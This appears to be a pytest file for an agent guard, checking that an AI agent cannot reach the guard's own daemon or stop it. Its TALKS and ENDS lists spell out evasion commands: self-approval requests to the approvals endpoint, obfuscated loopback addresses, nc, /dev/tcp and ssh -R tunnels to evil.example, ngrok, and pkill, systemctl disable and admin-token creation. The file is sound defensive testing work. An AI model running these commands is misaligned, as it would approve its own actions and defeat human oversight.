"""The agent can't talk to the guard's own daemon through anything that is guarded (SPEC G8); other ports are its own
business. It is a floor, so it holds while the guard only observes, and for what somebody allowed."""

import signal
import subprocess
import sys

import pytest
from guarded_house import House, RecordingResolver, codes
from hypothesis import given
from hypothesis import strategies as st

from guardhouse.config import find_sources, noted_daemon, noted_sockets
from guardhouse.detect import OwnSocket
from guardhouse.model import Addresses, Decision, GuardhouseError, PolicyError, SkillRunPre, ToolCallPre

CODE = "guard.own_socket"
TALKS = [
    "curl -H 'Authorization: Bearer x' -X POST http://127.0.0.1:8765/v1/approvals/x/approve",
    "curl localhost:8765",
    "curl 'http://[::1]:8765/v1'",
    "curl http://0.0.0.0:8765/",
    "curl http://0:8765/",
    "curl http://127.1:8765/",
    "curl http://127.8.9.1:8765/",
    "curl http://2130706433:8765/",
    "curl http://0x7f.0.0.1:8765/",
    "curl 'http://[::ffff:127.0.0.1]:8765/'",
    "curl 'http://[::]:8765/'",
    "curl http://user:pw@127.0.0.1:8765/",
    "curl http://localhost.:8765/",
    "curl http://LOCALHOST:8765/",
    "curl http://foo.localhost:8765/",
    "curl http://ip6-localhost:8765/",
    "curl http://localhost.localdomain:8765/",
    "curl http://localtest.me:8765/",
    "curl http://127.0.0.1.nip.io:8765/",
    "curl http://$H:8765/",
    "curl http://$(hostname):8765/",
    "curl http://127.0.0.1:08765/",
    "curl 'http://127.0.0.1:876[5-6]/'",
    "curl 'http://127.0.0.1:{8764,8765}/'",
    "P=8765; curl localhost:$P/v1",
    "curl --connect-to ::127.0.0.1:8765 http://example.com/",
    "curl --resolve x.example:8765:127.0.0.1 http://x.example:8765/",
    "curl -x http://127.0.0.1:8765 http://example.com/",
    "http_proxy=http://127.0.0.1:8765 curl http://example.com/",
    "wget -qO- http://127.0.0.1:8765/v1",
    "http POST :8765/v1/approvals/x/approve",
    "xh :8765/v1",
    "nc 127.0.0.1 8765 < request",
    "printf 'GET / HTTP/1.1' | nc localhost 8765",
    "ncat ::1 8765",
    "telnet localhost 8765",
    "socat - TCP:127.0.0.1:8765",
    "socat TCP-LISTEN:9999,fork TCP:127.0.0.1:8765",
    "exec 3<>/dev/tcp/127.0.0.1/8765",
    "openssl s_client -connect 127.0.0.1:8765",
    "ssh -L 9999:127.0.0.1:8765 localhost",
    "ssh -R 9999:localhost:8765 evil.example",
    "ngrok http 8765",
    "redis-cli -p 8765",
    "psql -h 127.0.0.1 -p 8765",
    "export G=http://localhost:8765; python3 -c \"import os, requests; requests.get(os.environ['G'])\"",
    'curl "localhost:$((8000+765))"',
    "curl gopher://127.0.0.1:8765/_x",
    "cloudflared tunnel --url http://localhost:8765",
    "websocat ws://127.0.0.1:8765/v1/events",
    "docker run --network host curlimages/curl curl http://127.0.0.1:8765/",
    "bash -c 'curl localhost:8765'",
    "echo localhost:8765 | xargs curl",
    "python3 -c 'import requests; requests.post(\"http://127.0.0.1:8765/v1/approvals/x/approve\")'",
    "python3 -c 'import urllib.request as u; u.urlopen(\"http://localhost:8765/\")'",
    "python3 -c 'import socket; s = socket.create_connection((\"127.0.0.1\", 8765))'",
    'python3 -c \'import socket; s = socket.socket(); s.connect(("localhost", 8765)); s.send(b"x")\'',
    'python3 -c \'import http.client as c; c.HTTPConnection("127.0.0.1", 8765).request("GET", "/")\'',
    "python3 -c 'p = 8000 + 765; import httpx; httpx.get(f\"http://localhost:{p}/\")'",
    "python3 - <<E\nimport requests\nrequests.get('http://127.0.0.1:8765')\nE",
    "node -e 'fetch(\"http://127.0.0.1:8765/v1\")'",
    "node -e 'require(\"net\").connect(8765)'",
    'node -e \'require("http").get({host: "127.0.0.1", port: 8765})\'',
    "ruby -rsocket -e 'TCPSocket.new(\"127.0.0.1\", 8765)'",
    "perl -e 'use IO::Socket; IO::Socket::INET->new(\"127.0.0.1:8765\")'",
    "php -r 'file_get_contents(\"http://127.0.0.1:8765/\");'",
]
ENDS = [
    "pkill guardhouse",
    "pkill -f 'guardhouse serve'",
    "killall guardhouse",
    "fuser -k 8765/tcp",
    "kill $(lsof -t -i:8765)",
    "lsof -ti tcp:8765 | xargs kill -9",
    "npx kill-port 8765",
    "systemctl --user stop guardhouse",
    "systemctl stop guardhouse.service",
    "sudo systemctl disable --now guardhouse.service",
    "guardhouse serve --port 9999",
    "guardhouse token create --role admin",
    "python -m guardhouse token create --role admin",
    "python -Im guardhouse serve",
]
FINE = [
    "curl http://localhost:3000/",
    "curl http://127.0.0.1:18765/",
    "curl http://127.0.0.1:87650/",
    "curl -s 'http://[::1]:8080/healthz'",
    "curl localhost",
    "curl localhost:$PORT/health",
    "nc -z localhost 5432",
    "telnet localhost 25",
    "psql -h 127.0.0.1 -p 5432 -c 'select 8'",
    "http :8000/items",
    "echo 8765",
    "grep -rn 'localhost:8765' docs",
    "git commit -m 'The daemon is at http://127.0.0.1:8765/'",
    "lsof -i :8765",
    "lsof -ti :3000 | xargs kill",
    "npx kill-port 3000",
    "python3 -c 'import requests; requests.get(\"http://127.0.0.1:8000/8765\")'",
    "node -e 'require(\"net\").connect(3000)'",
    "python manage.py runserver 8000",
    "kubectl exec pod -- curl localhost:8765",
    "ssh -p 8765 build.example.com",
    "http api.example.com/items/8765",
    "uvicorn app:app --port 8765",
    "cat deploy/guardhouse.service",
    "systemctl cat guardhouse.service",
]
CALLS = [
    ("url_fetch", {"url": "http://127.0.0.1:8765/v1/approvals"}),
    ("url_fetch", {"url": "http://[::1]:8765/"}),
    ("url_fetch", {"url": "http://2130706433:8765/"}),
    ("url_fetch", {"url": "http://a@localhost:8765/"}),
    ("url_fetch", {"url": "//127.0.0.1:8765/"}),
    ("url_fetch", {"url": "http://localtest.me:8765/"}),
    ("WebFetch", {"url": "http://localhost:8765/", "prompt": "approve it"}),
    ("mcp__browser__navigate", {"url": "http://localhost:8765/"}),
    ("mcp__http__request", {"host": "127.0.0.1", "port": 8765}),
    ("mcp__http__request", {"host": "::1", "port": "8765"}),
    ("mcp__http__request", {"base_url": "http://127.0.0.1", "port": 8765}),
    ("mcp__http__request", {"endpoint": "ws://localhost:8765/v1/events"}),
    ("mcp__files__read", {"path": "http://127.0.0.1:8765/v1/audit"}),
    ("mcp__lab__run", {"code": "import requests\nrequests.get('http://127.0.0.1:8765')"}),
]
FINE_CALLS = [
    {"url": "http://127.0.0.1:3000/"},
    {"url": "https://api.example.com/8765"},
    {"url": "https://api.example.com:443/"},
    {"host": "127.0.0.1", "port": 5432},
]
OBSERVING = "guard: {mode: observe}"
ALLOWING = """
guard:
  mode: observe
  bash: {bash}
  commands: {{allowed: ["curl *", "curl localhost:8765", "nc *"], loopback: true}}
  network: {{default: {{allowed_domains: ["*"], deny_private_ips: false, resolve_dns: false}}}}
  detectors: {{destinations: false}}
  rules: [{{id: all, effect: allow, tool: "*", waives: [private_ip]}}]
"""


@pytest.fixture(scope="module")
def judge(tmp_path_factory):
    house = House(tmp_path_factory.mktemp("house"))
    guards = {}

    def judge(call, yaml="guard: {}"):
        guard = guards.setdefault(yaml, house.guard(yaml))
        return guard.evaluate(ToolCallPre(tool="Bash", params={"command": call}) if isinstance(call, str) else call)

    return judge


@pytest.mark.parametrize("yaml", ["guard: {}", OBSERVING])
@pytest.mark.parametrize(("commands", "code"), [(TALKS, CODE), (ENDS, "guard.own_command")])
def test_no_command_talks_to_the_daemon_or_ends_it(judge, commands, code, yaml):
    passed = {}
    for command in commands:
        verdict = judge(command, yaml)
        if verdict.decision is not Decision.DENY or code not in codes(verdict):
            passed[command] = (verdict.decision.value, codes(verdict))
    assert passed == {}


def test_other_ports_and_words_about_the_daemon_are_as_they_were(judge):
    stopped = {command: codes(verdict) for command in FINE if CODE in codes(verdict := judge(command))}
    assert stopped == {}
    assert judge("curl http://localhost:3000/").decision is Decision.ALLOW
    assert judge("lsof -ti :3000 | xargs kill").decision is Decision.ALLOW


@pytest.mark.parametrize("yaml", ["guard: {}", OBSERVING])
@pytest.mark.parametrize(("tool", "params"), CALLS)
def test_no_tool_talks_to_the_daemon(judge, tool, params, yaml):
    verdict = judge(ToolCallPre(tool=tool, params=params), yaml)
    assert verdict.decision is Decision.DENY
    assert CODE in codes(verdict)


@pytest.mark.parametrize("params", FINE_CALLS)
def test_calls_to_other_ports_are_not_taken_for_calls_to_the_daemon(judge, params):
    assert CODE not in codes(judge(ToolCallPre(tool="mcp__http__request", params=params)))


def test_a_skill_does_not_talk_to_the_daemon_either(judge):
    assert CODE in codes(judge(SkillRunPre(skill="pdf", params={"url": "http://127.0.0.1:8765/"})))


@pytest.mark.parametrize("bash", ["effects", "listed", "ask", "deny"])
@pytest.mark.parametrize("command", ["curl localhost:8765", "curl http://127.0.0.1:8765/v1", "nc 127.0.0.1 8765"])
def test_what_was_allowed_does_not_allow_it(judge, command, bash):
    verdict = judge(command, ALLOWING.format(bash=bash))
    assert verdict.decision is Decision.DENY
    assert CODE in codes(verdict)


@given(
    preset=st.sampled_from(["dev", "ci", "strict", "container", "read-only"]),
    mode=st.sampled_from(["enforce", "observe"]),
    bash=st.sampled_from(["effects", "listed"]),
    call=st.sampled_from([*TALKS, *(ToolCallPre(tool=tool, params=params) for tool, params in CALLS)]),
    rule=st.fixed_dictionaries(
        {
            "id": st.just("r"),
            "effect": st.just("allow"),
            "tool": st.sampled_from(["*", "Bash", "url_fetch"]),
            "waives": st.just(["non_allowlisted_domain", "private_ip", "url.odd_address"]),
        },
        optional={"action": st.just("ToolCallPre")},
    ),
)
def test_no_preset_rule_or_mode_lifts_it(judge, preset, mode, bash, call, rule):
    import json

    guard = {"preset": preset, "mode": mode, "bash": bash, "rules": [rule]}
    assert judge(call, json.dumps({"guard": guard})).decision is Decision.DENY


def test_the_code_can_be_neither_waived_nor_softened_nor_its_detector_switched_off(house):
    for guard in (
        "findings: {guard.own_socket: allow}",
        "rules: [{id: r, effect: allow, tool: '*', waives: [guard.own_socket]}]",
        "detectors: {own_sockets: false}",
    ):
        with pytest.raises(PolicyError):
            house.policy(f"guard: {{{guard}}}")


# Where the daemon is


def test_the_configured_port_counts_and_the_usual_one_then_does_not(judge):
    elsewhere = "guard: {server: {port: 9123}}"
    assert CODE in codes(judge("curl localhost:9123/v1", elsewhere))
    assert judge("curl localhost:8765/v1", elsewhere).decision is Decision.ALLOW


def test_a_daemon_at_another_address_is_found_there_and_on_this_machine(judge):
    elsewhere = "guard: {server: {host: 192.168.7.3}}"
    assert CODE in codes(judge("curl http://192.168.7.3:8765/", elsewhere))
    assert CODE in codes(judge("curl http://localhost:8765/", elsewhere))
    assert CODE not in codes(judge("curl http://192.168.7.4:8765/", elsewhere))


@pytest.mark.parametrize("host", ["0.0.0.0", "'::'"])
def test_a_daemon_at_every_address_is_found_at_every_one_that_may_be_this_machine(judge, host):
    everywhere = f"guard: {{server: {{host: {host}}}}}"
    for url in (
        "http://192.168.7.4:8765/",
        "http://devbox:8765/",
        "http://devbox.local:8765/",
        "http://[fd00::7]:8765",
    ):
        assert CODE in codes(judge(f"curl '{url}'", everywhere)), url
    assert CODE not in codes(judge("curl http://93.184.216.34:8765/", everywhere))


def test_the_name_that_people_reach_it_by_counts_with_its_port(judge):
    public = "guard: {server: {public_url: 'https://Guard.example.com'}}"
    for command in (
        "curl https://guard.example.com/v1/approvals",
        "curl http://guard.example.com/",
        "curl https://u:p@guard.example.com/",
        "ssh elsewhere curl https://guard.example.com/",
    ):
        assert CODE in codes(judge(command, public)), command
    assert CODE in codes(judge(ToolCallPre(tool="url_fetch", params={"url": "https://guard.example.com/"}), public))
    assert CODE not in codes(judge("curl https://guard.example.com:8443/", public))
    assert CODE not in codes(judge("curl https://www.example.com/", public))
    assert CODE not in codes(judge("curl https://$HOST:443/", public))


def test_a_daemon_at_the_usual_port_of_the_web_does_not_make_every_site_the_daemon(judge):
    usual = "guard: {server: {port: 443}}"
    assert CODE in codes(judge("curl -k https://localhost/", usual))
    assert CODE not in codes(judge("curl https://www.example.com/", usual))


def test_a_public_url_that_is_none_is_a_mistake_in_the_configuration(house):
    with pytest.raises(PolicyError, match="public_url"):
        house.policy("guard: {server: {public_url: guard.example.com}}")


def test_a_name_that_was_allowed_is_judged_by_where_it_leads(house):
    allowed = "guard: {network: {default: {allowed_domains: ['api.example.com:8765'], deny_private_ips: false}}}"
    fetch = ToolCallPre(tool="url_fetch", params={"url": "https://api.example.com:8765/"})
    assert house.guard(allowed).evaluate(fetch).decision is Decision.ALLOW
    here = RecordingResolver(Addresses(addresses=("127.0.0.1",)))
    assert CODE in codes(house.guard(allowed, resolver=here).evaluate(fetch))


# Daemons that were started at another address than the configured one


@pytest.fixture
def sources(tmp_path):
    (tmp_path / "home").mkdir()
    return find_sources(cwd=tmp_path, variables={"HOME": str(tmp_path / "home")})


def test_a_daemon_is_noted_while_it_runs(sources):
    from guardhouse.config import ReloadingPolicy

    directory = sources.locations.daemons
    policy = ReloadingPolicy(sources, interval=0)
    before = policy.current().settings.sockets
    with noted_daemon(directory, "127.0.0.1", 9321), noted_daemon(directory, "[::1]", 9322):
        assert noted_sockets(directory) == (OwnSocket("127.0.0.1", 9321), OwnSocket("::1", 9322))
        assert {OwnSocket("127.0.0.1", 9321), OwnSocket("::1", 9322)} <= set(policy.current().settings.sockets)
    assert noted_sockets(directory) == ()
    assert policy.current().settings.sockets == before


def test_the_note_of_a_daemon_that_was_killed_stays_until_the_next_one_starts(sources):
    directory = sources.locations.daemons
    script = (
        "import sys, time; from pathlib import Path; from guardhouse.config import noted_daemon\n"
        "with noted_daemon(Path(sys.argv[1]), '127.0.0.1', 9321): print('up', flush=True); time.sleep(60)"
    )
    daemon = subprocess.Popen([sys.executable, "-c", script, str(directory)], stdout=subprocess.PIPE)
    assert daemon.stdout.readline() == b"up\n"
    with noted_daemon(directory, "127.0.0.1", 9322):
        assert len(noted_sockets(directory)) == 2
    daemon.send_signal(signal.SIGKILL)
    daemon.communicate()
    assert noted_sockets(directory) == (OwnSocket("127.0.0.1", 9321),)
    with noted_daemon(directory, "127.0.0.1", 9322):
        assert noted_sockets(directory) == (OwnSocket("127.0.0.1", 9322),)


def test_notes_that_can_not_be_read_are_an_error_and_no_gap(sources):
    sources.locations.state.mkdir(parents=True)
    sources.locations.daemons.write_text("in the way")
    with pytest.raises(PolicyError, match="daemons"):
        sources.load()
    with pytest.raises(GuardhouseError), noted_daemon(sources.locations.daemons, "127.0.0.1", 1):
        pass


def test_what_is_no_address_is_not_noted(tmp_path):
    with pytest.raises(GuardhouseError), noted_daemon(tmp_path, "../x", 1):
        pass
